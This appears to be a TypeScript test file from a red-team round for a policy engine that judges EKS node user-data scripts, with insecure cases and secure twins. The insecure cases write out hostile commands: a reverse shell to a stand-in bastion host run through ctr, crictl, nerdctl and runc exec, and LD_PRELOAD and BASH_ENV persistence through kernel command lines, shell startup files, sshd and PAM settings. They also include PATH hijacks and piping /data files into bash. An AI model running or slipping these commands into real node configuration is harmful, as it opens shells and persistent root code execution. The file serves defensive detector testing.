// Red-team round 72 on EKS NODE user data (fresh eyes on round 72's environment, PATH, CRI exec, xargs and sh -c fixes).
// Probed: other places that set root's environment (/etc/kernel/cmdline, BLS /boot/loader/entries options,
// /etc/default/grub.d, grub2-editenv kernelopts, pam_env.conf DEFAULT=@{HOME}, /etc/zshenv, /etc/csh.cshrc,
// /etc/login.defs ENV_SUPATH, sshd_config SetEnv, /root/.ssh/environment, sudoers secure_path) and other spellings of
// round 72's files (printf/echo -e escapes, sed -i uncommenting, crudini, cp of a written file, install /dev/stdin);
// PATH acceptance (system dirs made symlinks or bind mounts to /data, `$PATH` after an earlier /data entry, /snap);
// CRI clients (ctr -a/-n globals, ctr t exec, crictl --runtime-endpoint=, nerdctl --namespace/--address, runc exec,
// ctr run --privileged --net-host, nsenter, crictl exec -i with < /data); xargs/stdin (-a attached, --arg-file=,
// while-read, mapfile+eval, | sh -c 'bash', exec 0<, here-strings, /dev/stdin, /dev/fd/3, process substitution,
// { cat; } | bash -s, dd | sudo bash, xargs sh -c 'eval "$0"', source /dev/stdin).
// Misses (7 insecure, 1 secure):
// - KERNEL-CMDLINE-FILES (3: E1, E2, E4): systemd.setenv= in /etc/kernel/cmdline, BLS entries' options, grub2-editenv
//   kernelopts are not read (only grubby, GRUB_CMDLINE_LINUX, Bottlerocket). Fix: feed them to kernelArgsOpenings.
// - OTHER-SHELL-STARTUP (2: E6, E7): /etc/zshenv and /etc/csh.cshrc exports. Fix: add zsh/csh files to PROFILE_SCRIPT.
// - SSHD-SETENV (1: E9): sshd_config SetEnv LD_PRELOAD. Fix: judge SetEnv with managerLoaderOpenings.
// - UNKNOWN-EDITOR (1: W2): crudini --set system.conf ManagerEnvironment. Fix: read crudini/augtool edits.
// - secure PAM-ENV-CONF-PATH (1: S1): pam_env.conf `PATH DEFAULT=<system dirs>` refused (the value keeps "DEFAULT=").
// Held: /etc/default/grub.d, login.defs ENV_SUPATH and sudoers secure_path naming /data, /root/.ssh/environment
// (refused as an unjudged root file), every PATH trick (ln -s / mount --bind of /data onto a system dir is a root read
// of /data; a later `$PATH` keeps the earlier /data entry refused), every CRI client form (unknown-container exec,
// runc's --root as node secrets, ctr run's -c line), all xargs/stdin routes, printf/echo -e/sed/cp/install spellings.
// Secure held: /etc/profile.d PATH append, /sbin:/bin, /etc/kernel/cmdline of console and nvme options, grubby
// systemd.setenv=TZ, sshd SetEnv LANG, crictl -r ps/exec iptables-save, ctr -n k8s.io ls, xargs -a and while-read over a
// list user data wrote, login.defs ENV_SUPATH of system dirs, /etc/zshenv EDITOR.
// Round 73 (fixer): all 8 misses fixed; neighbours N1-N12 (insecure: /usr/lib/kernel/cmdline, a whole BLS entry, rd.shell,
// grubenv tuned_params, zsh's path array, csh's set path, csh source, AcceptEnv LD_*, quoted SetEnv, crudini of a drop-in,
// pam_env.conf OVERRIDE, quoted OVERRIDE) and T1-T6 (secure twins).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const REV = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";
const DATA = /\/data|\/mnt|\/srv/;
const RELAY = /bastion|shell|relay|beyond|4444|container|exec|unknown|unread/i;
const LOADER = /loader|LD_PRELOAD|BASH_ENV|PATH|environment/;

const n = (id: string) => `dev-${id}-72n-nodes`;

const insecure: NodeCase[] = [
    // ---- environment places ----
    // Was a MISS (fixed in round 73): KERNEL-CMDLINE-FILES. kernel-install(8) FILES "/etc/kernel/cmdline ... specifies the kernel command line to
    // use" for every kernel it installs into the boot loader entries; kernel-command-line(7)/systemd(1) systemd.setenv=
    // "May be used to set default environment variables to add to forked child processes": PID 1 gives LD_PRELOAD to every
    // unit from the next boot (the same as round 72's grubby/GRUB_CMDLINE_LINUX). Accepted (got []): kernelArgsOpenings
    // (userDataReaders/formats.ts) is fed only by grubby --args, GRUB_CMDLINE_LINUX(_DEFAULT) lines (rootWrites.ts) and
    // Bottlerocket init-parameters. Fix: read /etc/kernel/cmdline (and /usr/lib/kernel/cmdline) writes as kernel args.
    devNodeCase(
        "E1 /etc/kernel/cmdline systemd.setenv=LD_PRELOAD (kernel-install reads it for every installed kernel)",
        devNodeScript(n("e1"), [
            SO,
            "echo 'root=UUID=x ro console=ttyS0 systemd.setenv=LD_PRELOAD=/opt/x.so' > /etc/kernel/cmdline",
            'kernel-install add "$(uname -r)" "/lib/modules/$(uname -r)/vmlinuz"',
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 73): KERNEL-CMDLINE-FILES. The Boot Loader Specification (uapi-group.org BLS, Type #1 entries) `options` key is
    // "kernel parameters to pass to the Linux kernel"; AL2023's grub2 boots /boot/loader/entries/*.conf. A sed of the
    // options line adds systemd.setenv=LD_PRELOAD for PID 1 (systemd(1)). Accepted (got []). Fix: judge writes/edits of
    // /boot/loader/entries/*.conf `options` lines with kernelArgsOpenings.
    devNodeCase(
        "E2 /boot/loader/entries BLS options line with systemd.setenv=LD_PRELOAD",
        devNodeScript(n("e2"), [
            SO,
            "sed -i 's/^options .*/& systemd.setenv=LD_PRELOAD=\\/opt\\/x.so/' /boot/loader/entries/*.conf",
        ]),
        LOADER,
    ),
    devNodeCase(
        "E3 /etc/default/grub.d drop-in GRUB_CMDLINE_LINUX_DEFAULT systemd.setenv=LD_PRELOAD, update-grub",
        devNodeScript(n("e3"), [
            SO,
            ...file("/etc/default/grub.d/50-ops.cfg", [
                'GRUB_CMDLINE_LINUX_DEFAULT="$GRUB_CMDLINE_LINUX_DEFAULT systemd.setenv=LD_PRELOAD=/opt/x.so"',
            ]),
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 73): KERNEL-CMDLINE-FILES. grub2-editenv(1) sets grubenv variables; on BLS grub2 (RHEL 8+ family) entries take
    // `options $kernelopts`, so kernelopts= is the kernel command line; systemd.setenv=LD_PRELOAD reaches PID 1.
    // Accepted (got []). Fix: read grub2-editenv `set kernelopts=...` operands with kernelArgsOpenings.
    devNodeCase(
        "E4 grub2-editenv set kernelopts with systemd.setenv=LD_PRELOAD",
        devNodeScript(n("e4"), [
            SO,
            'grub2-editenv - set "kernelopts=root=UUID=x ro systemd.setenv=LD_PRELOAD=/opt/x.so"',
        ]),
        LOADER,
    ),
    devNodeCase(
        "E5 /etc/security/pam_env.conf PATH DEFAULT=@{HOME}/bin first (root's /root/bin)",
        devNodeScript(n("e5"), [
            "echo 'PATH DEFAULT=@{HOME}/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' >> /etc/security/pam_env.conf",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 73): OTHER-SHELL-STARTUP. zsh(1) STARTUP/SHUTDOWN FILES: "Commands are first read from /etc/zshenv; this cannot
    // be overridden" (every zsh, scripts and root's included). The same class as round 72's PROFILE_SCRIPT (bash's
    // /etc/profile(.d), bashrc), but PROFILE_SCRIPT (userDataReaders/systemd.ts) names bash's files only. Accepted.
    // Fix: add /etc/zshenv, /etc/zprofile, /etc/zshrc, /etc/zlogin, /root/.zshenv ... and csh's /etc/csh.cshrc,
    // /etc/csh.login, /root/.cshrc, /root/.tcshrc to PROFILE_SCRIPT (profileVariables already reads setenv).
    devNodeCase(
        "E6 /etc/zshenv export LD_PRELOAD (every zsh, root's included)",
        devNodeScript(n("e6"), [SO, "dnf install -y zsh", "echo 'export LD_PRELOAD=/opt/x.so' >> /etc/zshenv"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 73): OTHER-SHELL-STARTUP. tcsh(1) Startup and shutdown: a login shell "begins by executing commands from the
    // system files /etc/csh.cshrc and /etc/csh.login", every shell reads /etc/csh.cshrc; `setenv LD_PRELOAD` there loads
    // into every csh root runs. Accepted (PROFILE_SCRIPT omits it). Fix: as E6.
    devNodeCase(
        "E7 /etc/csh.cshrc setenv LD_PRELOAD (every csh/tcsh)",
        devNodeScript(n("e7"), [SO, "dnf install -y tcsh", "echo 'setenv LD_PRELOAD /opt/x.so' >> /etc/csh.cshrc"]),
        LOADER,
    ),
    devNodeCase(
        "E8 /etc/login.defs ENV_SUPATH with /data/bin first (root's login PATH)",
        devNodeScript(n("e8"), ["echo 'ENV_SUPATH PATH=/data/bin:/usr/sbin:/usr/bin' >> /etc/login.defs"]),
        DATA,
    ),
    // Was a MISS (fixed in round 73): SSHD-SETENV. sshd_config(5) SetEnv: "Specifies one or more environment variables to set in child sessions
    // started by sshd(8) as NAME=VALUE" (root's ssh sessions, whose commands load LD_PRELOAD). The fail-closed
    // session-environment rule of round 71/72 (managerLoaderOpenings) is never applied to sshd_config(.d) (the pack reads
    // PermitRootLogin/AuthorizedKeysFile there, round 71 I4). Accepted. Fix: judge SetEnv NAME=VALUE words in
    // /etc/ssh/sshd_config(.d/*.conf) with managerLoaderOpenings (AcceptEnv of a loader variable likewise).
    devNodeCase(
        "E9 sshd_config SetEnv LD_PRELOAD (root's ssh sessions)",
        devNodeScript(n("e9"), [
            SO,
            "echo 'SetEnv LD_PRELOAD=/opt/x.so' > /etc/ssh/sshd_config.d/50-env.conf",
            "systemctl restart sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "E10 /root/.ssh/environment LD_PRELOAD with PermitUserEnvironment yes",
        devNodeScript(n("e10"), [
            SO,
            "mkdir -p /root/.ssh",
            "echo 'LD_PRELOAD=/opt/x.so' > /root/.ssh/environment",
            "echo 'PermitUserEnvironment yes' > /etc/ssh/sshd_config.d/50-env.conf",
            "systemctl restart sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "E11 /etc/sudoers.d secure_path with /data/bin first",
        devNodeScript(n("e11"), [
            "echo 'Defaults secure_path=/data/bin:/usr/sbin:/usr/bin' > /etc/sudoers.d/50-path",
            "chmod 0440 /etc/sudoers.d/50-path",
        ]),
        DATA,
    ),
    // ---- PATH acceptance ----
    devNodeCase(
        "P1 /etc/environment PATH of system dirs, then /usr/local/games made a symlink to /data/bin",
        devNodeScript(n("p1"), [
            "ln -sfn /data/bin /usr/local/games",
            "echo 'PATH=/usr/local/games:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' > /etc/environment",
        ]),
        DATA,
    ),
    devNodeCase(
        "P2 /etc/environment PATH of system dirs, then /data/bin bind-mounted over /usr/local/sbin",
        devNodeScript(n("p2"), [
            "echo 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' > /etc/environment",
            "mount --bind /data/bin /usr/local/sbin",
        ]),
        DATA,
    ),
    devNodeCase(
        "P3 /etc/profile.d PATH=/usr/bin:$PATH after an earlier profile.d file set PATH to /data/bin",
        devNodeScript(n("p3"), [
            "echo 'export PATH=/data/bin:$PATH' > /etc/profile.d/00-a.sh",
            "echo 'export PATH=/usr/bin:$PATH' > /etc/profile.d/zz-b.sh",
        ]),
        DATA,
    ),
    devNodeCase(
        "P4 /etc/environment PATH with a /snap/bin entry that user data symlinks to /data",
        devNodeScript(n("p4"), [
            "ln -s /data/snap /snap",
            "echo 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/snap/bin' > /etc/environment",
        ]),
        DATA,
    ),
    // ---- CRI clients ----
    devNodeCase(
        "C1 ctr -a SOCKET -n k8s.io task exec into kube-proxy of a reverse shell (global options first)",
        devNodeScript(n("c1"), [
            `ctr -a /run/containerd/containerd.sock -n k8s.io task exec --exec-id ops "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C2 ctr --namespace=k8s.io t exec into kube-proxy of a reverse shell",
        devNodeScript(n("c2"), [
            `ctr --namespace=k8s.io t exec --exec-id ops "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C3 crictl --runtime-endpoint=unix://... exec -it into kube-proxy of a reverse shell",
        devNodeScript(n("c3"), [
            `crictl --runtime-endpoint=unix:///run/containerd/containerd.sock exec -it "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C4 nerdctl --namespace k8s.io --address SOCKET exec into kube-proxy of a reverse shell",
        devNodeScript(n("c4"), [
            `nerdctl --namespace k8s.io --address /run/containerd/containerd.sock exec "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C5 runc --root /run/containerd/runc/k8s.io exec into kube-proxy of a reverse shell",
        devNodeScript(n("c5"), [
            `runc --root /run/containerd/runc/k8s.io exec "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C6 ctr run --privileged --net-host of a reverse shell",
        devNodeScript(n("c6"), [
            `ctr run --rm --privileged --net-host public.ecr.aws/docker/library/busybox:latest ops sh -c '${REV}'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "C7 nsenter into kube-proxy's namespaces of a command from a list under /data",
        devNodeScript(n("c7"), [`nsenter -t "$(pidof kube-proxy)" -a sh /data/x.sh`]),
        DATA,
    ),
    devNodeCase(
        "C8 crictl exec into kube-proxy of sh reading a script under /data on stdin",
        devNodeScript(n("c8"), [`crictl exec -i "$(crictl ps -q --name kube-proxy)" sh < /data/x.sh`]),
        DATA,
    ),
    // ---- xargs lists and stdin ----
    devNodeCase(
        "X1 xargs -a/data/list (attached) -I{} sh -c {}",
        devNodeScript(n("x1"), ["xargs -a/data/list -I{} sh -c {}"]),
        DATA,
    ),
    devNodeCase(
        "X2 xargs --arg-file=/data/list -L1 sh -c",
        devNodeScript(n("x2"), ["xargs --arg-file=/data/list -L1 -I@ bash -c @"]),
        DATA,
    ),
    devNodeCase(
        "X3 while read loop over a list under /data running each line",
        devNodeScript(n("x3"), ['while read -r line; do sh -c "$line"; done < /data/list']),
        DATA,
    ),
    devNodeCase(
        "X4 mapfile of a list under /data, each entry eval'd",
        devNodeScript(n("x4"), ["mapfile -t cmds < /data/list", 'for c in "${cmds[@]}"; do eval "$c"; done']),
        DATA,
    ),
    devNodeCase("X5 cat /data/x | sh -c 'bash'", devNodeScript(n("x5"), ["cat /data/x | sh -c 'bash'"]), DATA),
    devNodeCase("X6 exec 0< /data/x; bash", devNodeScript(n("x6"), ["exec 0< /data/x", "bash"]), DATA),
    devNodeCase('X7 bash <<< "$(cat /data/x)"', devNodeScript(n("x7"), ['bash <<< "$(cat /data/x)"']), DATA),
    devNodeCase("X8 sh /dev/stdin < /data/x", devNodeScript(n("x8"), ["sh /dev/stdin < /data/x"]), DATA),
    devNodeCase(
        "X9 exec 3< /data/x; bash /dev/fd/3",
        devNodeScript(n("x9"), ["exec 3< /data/x", "bash /dev/fd/3"]),
        DATA,
    ),
    devNodeCase(
        "X10 sh -c 'bash' < <(cat /data/x) (process substitution)",
        devNodeScript(n("x10"), ["sh -c 'bash' < <(cat /data/x)"]),
        DATA,
    ),
    devNodeCase("X11 { cat /data/x; } | bash -s", devNodeScript(n("x11"), ["{ cat /data/x; } | bash -s"]), DATA),
    devNodeCase(
        "X12 dd if=/data/x status=none | sudo bash",
        devNodeScript(n("x12"), ["dd if=/data/x status=none | sudo bash"]),
        DATA,
    ),
    // ---- other spellings of round 72's environment files ----
    devNodeCase(
        "W1 printf with \\n escapes writing system.conf.d ManagerEnvironment=LD_PRELOAD",
        devNodeScript(n("w1"), [
            SO,
            "mkdir -p /etc/systemd/system.conf.d",
            "printf '[Manager]\\nManagerEnvironment=LD_PRELOAD=/opt/x.so\\n' > /etc/systemd/system.conf.d/50-env.conf",
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 73): UNKNOWN-EDITOR. crudini(1) `--set config_file section [param] [value]` writes `param = value` into an ini
    // file: here ManagerEnvironment = LD_PRELOAD=/opt/x.so in [Manager] of system.conf (systemd-system.conf(5)), the
    // round 72 fix's own key. Accepted (got []): the pack knows no crudini (no match under policy-pack/engine) and an
    // unknown program given a root configuration path as an operand is not refused. Fix: read crudini --set (and
    // augtool set) as an edit of the named file, or refuse an unknown program writing an ENVIRONMENT_FILES path.
    devNodeCase(
        "W2 crudini --set system.conf Manager ManagerEnvironment LD_PRELOAD",
        devNodeScript(n("w2"), [
            SO,
            "crudini --set /etc/systemd/system.conf Manager ManagerEnvironment LD_PRELOAD=/opt/x.so",
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    devNodeCase(
        "W3 sed -i uncommenting #ManagerEnvironment= to LD_PRELOAD",
        devNodeScript(n("w3"), [
            SO,
            "sed -i 's|^#ManagerEnvironment=.*|ManagerEnvironment=LD_PRELOAD=/opt/x.so|' /etc/systemd/system.conf",
            "systemctl daemon-reexec",
        ]),
        LOADER,
    ),
    devNodeCase(
        "W4 cp of a file user data wrote into /etc/profile.d (export LD_PRELOAD)",
        devNodeScript(n("w4"), [
            SO,
            ...file("/opt/ops/env.sh", ["export LD_PRELOAD=/opt/x.so"]),
            "cp /opt/ops/env.sh /etc/profile.d/zz-ops.sh",
        ]),
        LOADER,
    ),
    devNodeCase(
        "W5 install -D of stdin heredoc into /etc/environment.d (LD_PRELOAD)",
        devNodeScript(n("w5"), [
            SO,
            "install -D -m 0644 /dev/stdin /etc/environment.d/50-ops.conf <<'EOF'",
            "LD_PRELOAD=/opt/x.so",
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "W6 echo -e with \\n writing /etc/profile.d (a harmless line, then export LD_PRELOAD)",
        devNodeScript(n("w6"), [SO, "echo -e 'umask 027\\nexport LD_PRELOAD=/opt/x.so' > /etc/profile.d/zz-ops.sh"]),
        LOADER,
    ),
    devNodeCase(
        "W7 xargs -n1 sh -c 'eval \"$0\"' < /data/list",
        devNodeScript(n("w7"), ["xargs -n1 sh -c 'eval \"$0\"' < /data/list"]),
        DATA,
    ),
    devNodeCase("W8 source /dev/stdin < /data/x", devNodeScript(n("w8"), ["source /dev/stdin < /data/x"]), DATA),
    // ---- round 73 neighbours of the fixed cases (the fixer's own red team) ----
    devNodeCase(
        "N1 /usr/lib/kernel/cmdline systemd.setenv=BASH_ENV (kernel-install's fallback file)",
        devNodeScript(n("n1"), [
            SO,
            "echo 'root=UUID=x ro systemd.setenv=BASH_ENV=/opt/x.so' > /usr/lib/kernel/cmdline",
        ]),
        LOADER,
    ),
    devNodeCase(
        "N2 BLS entry written whole (heredoc) with an options line setting LD_PRELOAD",
        devNodeScript(n("n2"), [
            SO,
            ...file("/boot/loader/entries/ops.conf", [
                "title ops",
                "linux /vmlinuz",
                "options root=UUID=x ro systemd.setenv=LD_PRELOAD=/opt/x.so",
            ]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "N3 /etc/kernel/cmdline with rd.shell (a root shell on the console)",
        devNodeScript(n("n3"), ["echo 'root=UUID=x ro rd.shell' > /etc/kernel/cmdline"]),
        /shell|console/,
    ),
    devNodeCase(
        "N4 grub2-editenv set tuned_params with systemd.setenv=LD_PRELOAD (BLS options $tuned_params)",
        devNodeScript(n("n4"), [SO, "grub2-editenv - set 'tuned_params=systemd.setenv=LD_PRELOAD=/opt/x.so'"]),
        LOADER,
    ),
    devNodeCase(
        "N5 /etc/zsh/zshenv path=(/opt/ops/bin $path) (zsh's path array is PATH)",
        devNodeScript(n("n5"), ["echo 'path=(/opt/ops/bin $path)' >> /etc/zsh/zshenv"]),
        LOADER,
    ),
    devNodeCase(
        "N6 /root/.tcshrc set path = (/opt/ops/bin $path)",
        devNodeScript(n("n6"), ["echo 'set path = ( /opt/ops/bin $path )' >> /root/.tcshrc"]),
        LOADER,
    ),
    devNodeCase(
        "N7 /etc/csh.login source of another file (unknown assignments)",
        devNodeScript(n("n7"), ["echo 'source /opt/ops/env.csh' >> /etc/csh.login"]),
        LOADER,
    ),
    devNodeCase(
        "N8 sshd_config.d AcceptEnv LD_* (the client picks LD_PRELOAD)",
        devNodeScript(n("n8"), ["echo 'AcceptEnv LANG LD_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
        LOADER,
    ),
    devNodeCase(
        "N9 sshd_config.d SetEnv with a quoted BASH_ENV among harmless ones",
        devNodeScript(n("n9"), [
            SO,
            "echo 'SetEnv LANG=C.UTF-8 \"BASH_ENV=/opt/x.so\"' > /etc/ssh/sshd_config.d/50-env.conf",
        ]),
        LOADER,
    ),
    devNodeCase(
        "N10 crudini --set a system.conf.d drop-in DefaultEnvironment LD_PRELOAD",
        devNodeScript(n("n10"), [
            SO,
            "crudini --set /etc/systemd/system.conf.d/50-env.conf Manager DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "N11 pam_env.conf PATH OVERRIDE=/opt/ops/bin:${PATH} (DEFAULT harmless)",
        devNodeScript(n("n11"), [
            "echo 'PATH DEFAULT=/usr/bin OVERRIDE=/opt/ops/bin:${PATH}' >> /etc/security/pam_env.conf",
        ]),
        LOADER,
    ),
    devNodeCase(
        "N12 pam_env.conf LD_PRELOAD OVERRIDE= (quoted value)",
        devNodeScript(n("n12"), [SO, "echo 'LD_PRELOAD OVERRIDE=\"/opt/x.so\"' >> /etc/security/pam_env.conf"]),
        LOADER,
    ),
];

const secure: NodeCase[] = [
    // Was a MISS (secure, fixed in round 73): PAM-ENV-CONF-PATH. pam_env.conf(5): "VARIABLE [DEFAULT=[value]] [OVERRIDE=[value]]"; a PATH DEFAULT=
    // of root-owned system directories only is the same harmless PATH round 72 accepts in /etc/environment (S22 of
    // round 71). Refused: sessionEnvironmentVariables (userDataReaders/systemd.ts) hands the value as
    // "DEFAULT=/usr/local/sbin:..." so systemPath (formats.ts) sees the entry "DEFAULT=/usr/local/sbin". Fix: split the
    // pam_env.conf line into its DEFAULT= and OVERRIDE= values and judge each (an OVERRIDE ${PATH} as inherited).
    devNodeCase(
        "S1 /etc/security/pam_env.conf PATH DEFAULT= of system dirs",
        devNodeScript(n("s1"), [
            "echo 'PATH DEFAULT=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' >> /etc/security/pam_env.conf",
        ]),
        /./,
    ),
    devNodeCase(
        "S2 /etc/profile.d PATH=$PATH:/usr/local/bin (append a system dir)",
        devNodeScript(n("s2"), ["echo 'export PATH=\"$PATH:/usr/local/bin\"' > /etc/profile.d/zz-path.sh"]),
    ),
    devNodeCase(
        "S3 /etc/environment PATH with /sbin and /bin (symlinks to usr dirs on AL2023)",
        devNodeScript(n("s3"), [
            "echo 'PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' > /etc/environment",
        ]),
    ),
    devNodeCase(
        "S4 /etc/kernel/cmdline with console and nvme timeout only",
        devNodeScript(n("s4"), [
            "echo 'root=UUID=x ro console=ttyS0,115200n8 nvme_core.io_timeout=4294967295' > /etc/kernel/cmdline",
        ]),
    ),
    devNodeCase(
        "S5 grubby --args systemd.setenv=TZ=UTC (harmless variable)",
        devNodeScript(n("s5"), ["grubby --update-kernel=ALL --args='systemd.setenv=TZ=UTC'"]),
    ),
    devNodeCase(
        "S6 sshd_config.d SetEnv LANG=C.UTF-8",
        devNodeScript(n("s6"), [
            "echo 'SetEnv LANG=C.UTF-8' > /etc/ssh/sshd_config.d/50-env.conf",
            "systemctl restart sshd",
        ]),
    ),
    devNodeCase(
        "S7 crictl -r unix://... ps and exec of iptables-save in kube-proxy",
        devNodeScript(n("s7"), [
            "crictl -r unix:///run/containerd/containerd.sock ps",
            'crictl -r unix:///run/containerd/containerd.sock exec "$(crictl ps -q --name kube-proxy)" iptables-save',
        ]),
    ),
    devNodeCase(
        "S8 ctr -n k8s.io images ls and containers ls",
        devNodeScript(n("s8"), ["ctr -n k8s.io images ls", "ctr -n k8s.io containers ls"]),
    ),
    devNodeCase(
        "S9 xargs -a over a list user data wrote, running systemctl restart",
        devNodeScript(n("s9"), [
            "printf '%s\\n' chronyd containerd > /etc/ops-units",
            "xargs -a /etc/ops-units -n1 systemctl restart",
        ]),
    ),
    devNodeCase(
        "S10 while read over a list user data wrote, enabling units",
        devNodeScript(n("s10"), [
            "printf '%s\\n' chronyd > /etc/ops-units",
            'while read -r u; do systemctl enable --now "$u"; done < /etc/ops-units',
        ]),
    ),
    devNodeCase(
        "S11 /etc/login.defs ENV_SUPATH of system dirs",
        devNodeScript(n("s11"), [
            "echo 'ENV_SUPATH PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin' >> /etc/login.defs",
        ]),
    ),
    devNodeCase(
        "S12 /etc/zshenv export EDITOR=vim",
        devNodeScript(n("s12"), ["echo 'export EDITOR=vim' >> /etc/zshenv"]),
    ),
    // ---- round 73 neighbours of the fixed cases (the fixer's own red team) ----
    devNodeCase(
        "T1 sed of BLS entries' options adding console=ttyS0 only",
        devNodeScript(n("t1"), ["sed -i 's/^options .*/& console=ttyS0/' /boot/loader/entries/*.conf"]),
    ),
    devNodeCase(
        "T2 grub2-editenv set kernelopts of root/console only, and saved_entry",
        devNodeScript(n("t2"), [
            'grub2-editenv - set "kernelopts=root=UUID=x ro console=ttyS0,115200n8"',
            "grub2-editenv - set saved_entry=0",
        ]),
    ),
    devNodeCase(
        "T3 /etc/csh.cshrc setenv EDITOR vim and set path of system dirs",
        devNodeScript(n("t3"), [
            "echo 'setenv EDITOR vim' >> /etc/csh.cshrc",
            "echo 'set path = ( $path /usr/local/bin )' >> /etc/csh.cshrc",
        ]),
    ),
    devNodeCase(
        "T4 sshd_config.d AcceptEnv LANG LC_*",
        devNodeScript(n("t4"), ["echo 'AcceptEnv LANG LC_*' > /etc/ssh/sshd_config.d/50-env.conf"]),
    ),
    devNodeCase(
        "T5 pam_env.conf PATH OVERRIDE=${PATH}:/usr/local/bin",
        devNodeScript(n("t5"), ["echo 'PATH OVERRIDE=${PATH}:/usr/local/bin' >> /etc/security/pam_env.conf"]),
    ),
    devNodeCase(
        "T6 crudini --set system.conf Manager DefaultLimitNOFILE 65536",
        devNodeScript(n("t6"), ["crudini --set /etc/systemd/system.conf Manager DefaultLimitNOFILE 65536"]),
    ),
];

describeNodeCases("red team 72: node user data (fresh eyes on round 72)", insecure, secure);
